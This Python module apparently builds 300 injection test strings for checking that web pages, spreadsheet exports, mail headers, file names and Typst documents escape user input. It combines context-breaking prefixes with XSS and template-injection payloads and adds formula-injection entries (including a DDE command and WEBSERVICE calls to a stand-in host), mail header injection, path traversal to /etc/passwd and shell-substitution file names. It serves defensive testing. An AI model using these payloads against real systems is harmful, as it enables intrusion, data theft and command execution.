"""Three hundred texts that somebody who means harm could type: what runs in a page, in a spreadsheet, in a mail, in the name of a file.

What runs calls `ran()`; marks of ours (`zz-ran`) tell an element or an attribute that came from a text.
"""

from itertools import islice, product

MARK = "zz-ran"
RUN = "ran()"
# How a text may come out of where a page writes it.
BREAKS = (
    "", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "--><!-- -->", "]]>", "\\\"", "`", "&quot;&gt;",
    "%22%3E", "</option></select>",
    "\u2028", "}}", "{% endraw %}", '" ' + MARK + '="',
)  # fmt: skip
# What it may then do.
RUNS = (
    f"<script {MARK}>{RUN}</script>",
    f"<img {MARK} src=x onerror={RUN}>",
    f"<svg {MARK} onload={RUN}>",
    f"<a {MARK} href=javascript:{RUN}>ici</a>",
    f" {MARK} autofocus onfocus={RUN} x=",
    f"<iframe {MARK} srcdoc='<script>parent.{RUN}</script>'>",
    f"<details {MARK} open ontoggle={RUN}>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//ailleurs.example'>",
    f"<link {MARK} rel=stylesheet href=//ailleurs.example/a.css>",
    f"<base {MARK} href=//ailleurs.example/>",
    f"<form {MARK} action=//ailleurs.example><button>Continuer</button>",
    f"<style {MARK}>@import '//ailleurs.example';</style>",
    "{{ 7*7 }}{{ config }}${7*7}#{7*7}",
    "javascript:ran()",
)
SHEETS = (
    "=1+1", '=HYPERLINK("http://ailleurs.example";"ici")', "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1",
    '=WEBSERVICE("http://ailleurs.example")', "=-1+1",
    '"=1+1', ";=1+1", "=IMPORTXML(CONCAT(\"//ailleurs.example\";A1);\"//a\")",
)  # fmt: skip
LINES = (
    "a\r\nBcc: tous@ailleurs.example", "a\nContent-Type: text/html", "a\r\n\r\n<script>ran()</script>",
    "a\r\nEND:VCALENDAR\r\nBEGIN:VEVENT", "a\n.\nQUIT", "a\r\nSet-Cookie: a=b",
)  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\boot.ini", "a\u202efdp.exe", "con", "a/b.pdf", ".htaccess",
    "a;rm -rf.pdf", "`id`.pdf", "$(id).pdf", "%2e%2e%2fa",
)  # fmt: skip
TYPST = ("#read(\"/etc/passwd\")", "#eval(\"1+1\")", "$ x $ #panic()", "*a* _b_ = c", "#import \"/a.typ\": a", "\\ #let a = 1")
COUNT = 300
_OTHERS = (*SHEETS, *LINES, *NAMES, *TYPST)
PAYLOADS = (*_OTHERS, *islice((out + run for run, out in product(RUNS, BREAKS)), COUNT - len(_OTHERS)))
